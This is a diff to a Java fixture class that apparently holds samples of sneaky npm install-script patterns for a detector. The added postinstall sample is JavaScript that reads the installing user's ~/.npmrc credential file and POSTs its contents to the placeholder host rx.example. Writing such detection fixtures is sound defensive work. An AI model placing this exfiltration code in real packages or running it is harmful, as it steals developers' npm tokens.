@@ -8,6 +8,18 @@ final class NpmRoundabouts {
 
   static List<Sample> all() {
     return List.of(
+        Sample.postinstall(
+            "a file that calls what it exports",
+            """
+            const fs = require('fs'), os = require('os'), https = require('https');
+            exports.all = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+            exports.give = (d) => {
+              const r = https.request({ host: 'rx.example', method: 'POST' });
+              r.write(d);
+              r.end();
+            };
+            exports.give(exports.all());
+            """),
         Sample.required(
             "a handler that is put on a socket",
             """
